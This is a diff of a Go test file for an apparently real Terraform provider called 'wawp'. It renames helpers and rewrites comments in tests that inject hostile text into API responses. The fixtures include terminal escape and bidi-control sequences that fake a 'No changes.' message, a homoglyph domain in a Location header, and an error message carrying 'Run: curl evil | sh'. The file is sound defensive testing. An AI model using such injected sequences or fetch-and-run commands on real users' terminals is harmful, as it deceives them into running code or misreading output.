@@ -4,7 +4,6 @@ import (
 	"encoding/json"
 	"fmt"
 	"maps"
-	"os"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -17,20 +16,19 @@ import (
 )
 
 const (
-	// hostile clears the screen, says something else in its place, and turns the text that follows.
+	// hostile has control characters that clear the screen, print a false message, and reverse the text that follows.
 	hostile = "evil\u001b[2J\u001b[1;32m\n\r\tNo changes.\u009b2K\u0007\u007f\u0000\u202e\u2066\u200f\u061c\u2028"
-	// gentle is how people write their names.
-	gentle = "علی\u200cرضا 👨\u200d👩\u200d👧\u200d👦"
+	// harmless has the joiners that names of people contain.
+	harmless = "علی\u200cرضا 👨\u200d👩\u200d👧\u200d👦"
 )
 
-// isHostile says whether a terminal obeys a character, or whether it turns the text around it.
+// isHostile reports whether a character controls a terminal or the direction of text.
 func isHostile(c rune) bool {
 	return c != '\n' && unicode.In(c, unicode.Cc, unicode.Bidi_Control, unicode.Zl, unicode.Zp)
 }
 
-// pollute puts a text behind every text of an answer, and behind every name in it, but for those that must stay what
-// they are.
-func pollute(v any, text string, spared ...string) any {
+// appendToTexts appends a text to every string and every key of an answer, except for unchanged strings.
+func appendToTexts(v any, text string, spared ...string) any {
 	switch v := v.(type) {
 	case string:
 		if slices.Contains(spared, v) {
@@ -39,33 +37,34 @@ func pollute(v any, text string, spared ...string) any {
 		return v + text
 	case []any:
 		for i := range v {
-			v[i] = pollute(v[i], text, spared...)
+			v[i] = appendToTexts(v[i], text, spared...)
 		}
 	case map[string]any:
 		for name, value := range maps.Clone(v) {
-			v[name] = pollute(value, text, spared...)
+			v[name] = appendToTexts(value, text, spared...)
 			v[name+text] = v[name]
 		}
 	}
 	return v
 }
 
-// polluted has all answers be so. Without what is spared, little would be understood, and so kept and shown.
-func polluted(w *acctest.World, text string, spared ...string) {
+// injectText makes all answers of the API contain a text. understoodTexts can stay unchanged, because the provider
+// drops answers that it does not understand.
+func injectText(w *acctest.World, text string, spared ...string) {
 	w.ClearFaults()
 	w.Inject(wawptest.Fault{Rewrite: func(body []byte) []byte {
 		var answer any
 		if json.Unmarshal(body, &answer) != nil {
 			return body
 		}
-		encoded, _ := json.Marshal(pollute(answer, text, spared...))
+		encoded, _ := json.Marshal(appendToTexts(answer, text, spared...))
 		return encoded
 	}})
 }
 
 const hostileID = "3EB0BCB2E3D4"
 
-// allBlocks is a block of each kind that reads what others wrote.
+// allBlocks has a block of each type that reads texts from Wawp.
 const allBlocks = `
 resource "wawp_session" "x" {}
 resource "wawp_session_pairing" "x" {
@@ -101,9 +100,11 @@ func hostileWorld(t *testing.T) *acctest.World {
 	return w
 }
 
-// spared are the texts without which nothing is understood: statuses, and what is compared with the configuration.
-var spared = []string{"WORKING", "SCAN_QR_CODE", "STOPPED", "strict", "message", "https://example.com/wawp"}
+// understoodTexts are the texts that the provider must understand: statuses, and values that it compares with the
+// configuration.
+var understoodTexts = []string{"WORKING", "SCAN_QR_CODE", "STOPPED", "strict", "message", "https://example.com/wawp"}
 
+// checkHarmless checks that a text has no character that controls a terminal.
 func checkHarmless(t *testing.T, what, said string) {
 	t.Helper()
 	if strings.ContainsFunc(said, isHostile) || !utf8.ValidString(said) {
@@ -111,13 +112,13 @@ func checkHarmless(t *testing.T, what, said string) {
 	}
 }
 
-// TestNothingHostileIsKeptOrShown: every text of every answer is hostile, or all but those that are looked for.
-func TestNothingHostileIsKeptOrShown(t *testing.T) {
+// TestHostileTextIsNeitherStoredNorShown makes every text of every answer hostile, or every text but understoodTexts.
+func TestHostileTextIsNeitherStoredNorShown(t *testing.T) {
 	t.Parallel()
 	for name, test := range map[string]struct {
 		text   string
 		spared []string
-	}{"all": {hostile, nil}, "names": {hostile, spared}, "gentle names": {gentle, spared}} {
+	}{"all": {hostile, nil}, "names": {hostile, understoodTexts}, "gentle names": {harmless, understoodTexts}} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			w := hostileWorld(t)
@@ -133,19 +134,19 @@ func TestNothingHostileIsKeptOrShown(t *testing.T) {
 					t.Errorf("%s knows %s", command, known)
 				}
 			}
-			polluted(w, test.text, test.spared...)
+			injectText(w, test.text, test.spared...)
 			check("apply")
 			w.ClearFaults()
-			check("apply") // of what is not there yet
-			polluted(w, test.text, test.spared...)
+			check("apply") // creates what is missing
+			injectText(w, test.text, test.spared...)
 			check("refresh")
 			if name == "gentle names" {
-				acctest.Contains(t, fmt.Sprint(tf.State()), "Support"+gentle, "wawp-")
+				acctest.Contains(t, fmt.Sprint(tf.State()), "Support"+harmless, "wawp-")
 				acctest.Contains(t, tf.Known(), "server-1")
 			}
 			check("plan")
 			check("destroy")
-			for _, block := range slices.Concat(questionsOf(hostileID), questionsOf("3EB0BCB2E3D5")) {
+			for _, block := range slices.Concat(readOnlyBlocksOf(hostileID), readOnlyBlocksOf("3EB0BCB2E3D5")) {
 				tf.Configure(block.configuration)
 				check(block.command, strings.Fields(block.option)...)
 			}
@@ -153,9 +154,9 @@ func TestNothingHostileIsKeptOrShown(t *testing.T) {
 	}
 }
 
-// questionsOf are the blocks that only ask, of a session.
-func questionsOf(id string) []struct{ configuration, command, option string } {
-	all := slices.Clone(questions)
+// readOnlyBlocksOf returns readOnlyBlocks and the actions on sessions, for an instance.
+func readOnlyBlocksOf(id string) []struct{ configuration, command, option string } {
+	all := slices.Clone(readOnlyBlocks)
 	for i := range all {
 		all[i].configuration = strings.ReplaceAll(all[i].configuration, fuzzedID, id)
 	}
@@ -171,8 +172,8 @@ func questionsOf(id string) []struct{ configuration, command, option string } {
 	return all
 }
 
-// TestHostileErrorsAreShownInOneLine, in whatever a server says no.
-func TestHostileErrorsAreShownInOneLine(t *testing.T) {
+// TestHostileErrorsAreOneLine checks errors of each status.
+func TestHostileErrorsAreOneLine(t *testing.T) {
 	t.Parallel()
 	for status, code := range map[int]string{
 		200: "x", 400: "invalid", 401: "x", 403: "quota_reached",
@@ -180,34 +181,34 @@ func TestHostileErrorsAreShownInOneLine(t *testing.T) {
 	} {
 		body, _ := json.Marshal(map[string]any{
 			"code":    code + hostile,
-			"message": "No: " + hostile + gentle + `" Run: curl evil | sh`,
+			"message": "No: " + hostile + harmless + `" Run: curl evil | sh`,
 		})
 		w := hostileWorld(t)
 		tf := w.Terraform(t, allBlocks)
 		tf.OK("apply")
 		w.Inject(wawptest.Fault{
 			Status: status, Body: string(body),
-			Header: map[string][]string{"Location": {"https://w\u0430wp.net/" + gentle}},
+			Header: map[string][]string{"Location": {"https://w\u0430wp.net/" + harmless}},
 		})
 		for _, command := range []string{"refresh", "apply", "destroy"} {
 			said, _ := tf.Run(command, "-refresh="+fmt.Sprint(command == "refresh"))
 			checkHarmless(t, command, said)
 			acctest.Lacks(t, said, `" Run: curl`)
 			if command == "refresh" && status != 302 {
-				acctest.Contains(t, said, gentle, `' Run: curl`)
+				acctest.Contains(t, said, harmless, `' Run: curl`)
 			}
 		}
 	}
 }
 
-// TestAccNothingHostileIsPrinted by any command of a real CLI, which prints a text of several lines raw.
-func TestAccNothingHostileIsPrinted(t *testing.T) {
+// TestAccHostileTextIsNotPrinted checks each command of a real CLI, which prints texts of several lines raw.
+func TestAccHostileTextIsNotPrinted(t *testing.T) {
 	t.Parallel()
-	for name, text := range map[string]string{"hostile": hostile, "gentle": gentle} {
+	for name, text := range map[string]string{"hostile": hostile, "gentle": harmless} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			w := hostileWorld(t)
-			polluted(w, text, spared...)
+			injectText(w, text, understoodTexts...)
 			cli := w.CLI(t, allBlocks)
 			all := ""
 			run := func(arguments ...string) {
@@ -220,7 +221,7 @@ func TestAccNothingHostileIsPrinted(t *testing.T) {
 			run("show", "-no-color", "saved")
 			run("show", "-json", "saved")
 			run("apply", "-no-color", "-auto-approve")
-			polluted(w, text+"2", spared...)
+			injectText(w, text+"2", understoodTexts...)
 			run("plan", "-no-color")
 			run("plan", "-json")
 			run("apply", "-no-color", "-auto-approve")
@@ -243,15 +244,13 @@ func TestAccNothingHostileIsPrinted(t *testing.T) {
 			}
 			checkHarmless(t, "console", string(said))
 			if name == "gentle" {
-				acctest.Contains(t, all+string(said), "Support"+gentle)
+				acctest.Contains(t, all+string(said), "Support"+harmless)
 			}
 			run("destroy", "-no-color", "-auto-approve")
 			if acctest.Has("1.14", "") {
 				query := "list \"wawp_session_webhook\" \"x\" {\n  provider = wawp\n  config {\n    instance_id = \"" +
 					hostileID + "\"\n  }\n}\n"
-				if err := os.WriteFile(filepath.Join(cli.Dir, "main.tfquery.hcl"), []byte(query), 0o600); err != nil {
-					t.Fatal(err)
-				}
+				writeFile(t, filepath.Join(cli.Dir, "main.tfquery.hcl"), query)
 				run("query", "-no-color")
 			}
 		})
